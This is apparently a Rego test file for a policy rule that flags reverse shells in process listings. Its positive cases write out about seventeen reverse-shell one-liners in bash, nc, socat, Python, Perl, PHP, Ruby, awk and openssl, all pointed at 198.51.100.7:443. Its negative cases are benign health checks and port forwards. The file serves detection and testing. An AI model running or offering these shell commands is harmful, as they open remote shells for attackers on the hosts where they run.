package rummage.processes.reverse_shell_test

import data.rummage.processes.reverse_shell as rule

process(args) := {"pid": 7, "command": concat(" ", args), "args": args}

test_fires_on_shells_over_the_network if {
	every args in [
		["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"], ["bash", "-c", "bash${IFS}-i>&/dev/tcp/198.51.100.7/443<&1"],
		["sh", "-c", "exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done"],
		["bash", "-c", "0<&196;exec 196<>/dev/tcp/198.51.100.7/443; sh <&196 >&196 2>&196"],
		["nc", "-e", "/bin/sh", "198.51.100.7", "443"], ["ncat", "198.51.100.7", "443", "--sh-exec", "bash -i"],
		["nc", "-lvpe", "/bin/bash"], ["busybox", "nc", "198.51.100.7", "443", "-e", "sh"],
		["socat", "exec:'bash -li',pty,stderr,setsid", "tcp:198.51.100.7:443"], ["socat", "TCP4-LISTEN:443", "EXEC:/bin/sh"],
		["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('198.51.100.7',443));os.dup2(s.fileno(),0);pty.spawn('sh')"],
		["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$p);open(STDIN,\">&S\");exec(\"/bin/sh -i\");"],
		["php", "-r", "$s=fsockopen('198.51.100.7',443);exec('/bin/sh -i <&3 >&3 2>&3');"],
		["ruby", "-rsocket", "-e", "f=TCPSocket.open('198.51.100.7',443).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)"],
		["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 443 >/tmp/f"],
		["sh", "-c", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:443 > /tmp/s"],
		["awk", "BEGIN {s = \"/inet/tcp/0/198.51.100.7/443\"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }"],
	] {
		count(rule.findings) > 0 with input.processes as [process(args)]
	}
}

test_silent_on_checks_and_forwarding if {
	every args in [
		["nc", "-z", "db", "5432"], ["bash", "-c", "timeout 1 bash -c '</dev/tcp/db/5432'"], ["bash", "-c", ": > /dev/tcp/127.0.0.1/8080"],
		["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0' >&3; cat <&3"], ["bash", "-c", "echo > /dev/tcp/db/5432"],
		["/wait-for-it.sh", "db:5432", "--", "server"], ["socat", "TCP-LISTEN:80,fork", "TCP:web:8080"],
		["socat", "TCP-LISTEN:80,fork", "UNIX-CONNECT:/run/x.sock"], ["nc", "-lk", "-p", "8080"],
		["python3", "-c", "import socket; s=socket.create_connection(('db',5432),1)"], ["python3", "-m", "http.server"],
		["sh", "-c", "grep -r 'bash -i >& /dev/tcp/a/1 0>&1' /srv"], ["php", "-r", "fsockopen('localhost', 9000) or exit(1);"],
		["node", "-e", "require('net').connect(3000).on('error', () => process.exit(1))"],
		["perl", "-MIO::Socket::INET", "-e", "exit(!defined(IO::Socket::INET->new('127.0.0.1:80')))"],
		["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET /health HTTP/1.1\\r\\n' >&3; grep -q UP <&3"],
		["grep", "-r", "bash -i >& /dev/tcp/", "/srv"], ["sh", "-c", "until nc -z db 5432; do sleep 1; done; exec app"],
		["openssl", "s_client", "-connect", "web:443"], ["bash", "-i"], ["sh", "-c", "tar c . | nc backup 9000"],
	] {
		count(rule.findings) == 0 with input.processes as [process(args)]
	}
}
